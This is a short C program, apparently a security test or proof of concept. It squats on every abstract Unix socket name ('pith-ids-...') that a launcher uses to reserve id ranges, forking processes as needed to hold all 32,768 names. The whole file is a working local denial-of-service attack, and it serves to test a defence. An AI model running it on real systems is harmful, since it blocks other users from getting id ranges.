/* Attack of a local user: claim the name of every range of ids, as launchers do
 * if they have no file to lock. Print the number of names, and keep them until
 * end of file on stdin. Fork as often as RLIMIT_NOFILE requires. */
#include <stddef.h>
#include <stdio.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

enum { RANGES = 0x8000, EACH = 512 };

static int
bind_range(unsigned range)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	const int n = sprintf(a.sun_path + 1, "pith-ids-%u",
	    0x70000000u + range * 65536u);
	const int fd = socket(AF_UNIX, SOCK_DGRAM, 0);

	return fd >= 0 && bind(fd, (void *)&a, offsetof(struct sockaddr_un,
	    sun_path) + 1 + n) == 0;
}

int
main(void)
{
	const struct rlimit most = { EACH + 16, EACH + 16 };
	int told[2], bound = 0, n;
	char byte;

	if (pipe(told) < 0)
		return 1;
	for (unsigned from = 0; from < RANGES; from += EACH) {
		if (fork() > 0)
			continue;
		setrlimit(RLIMIT_NOFILE, &most);
		n = 0;
		for (unsigned i = 0; i < EACH; i++)
			n += bind_range(from + i);
		if (write(told[1], &n, sizeof(n)) < 0)
			return 1;
		while (read(STDIN_FILENO, &byte, 1) > 0)
			;
		return 0;
	}
	for (int i = 0; i < RANGES / EACH; i++)
		if (read(told[0], &n, sizeof(n)) == sizeof(n))
			bound += n;
	printf("bound %d\n", bound);
	fflush(stdout);
	while (wait(NULL) > 0)
		;
	return 0;
}
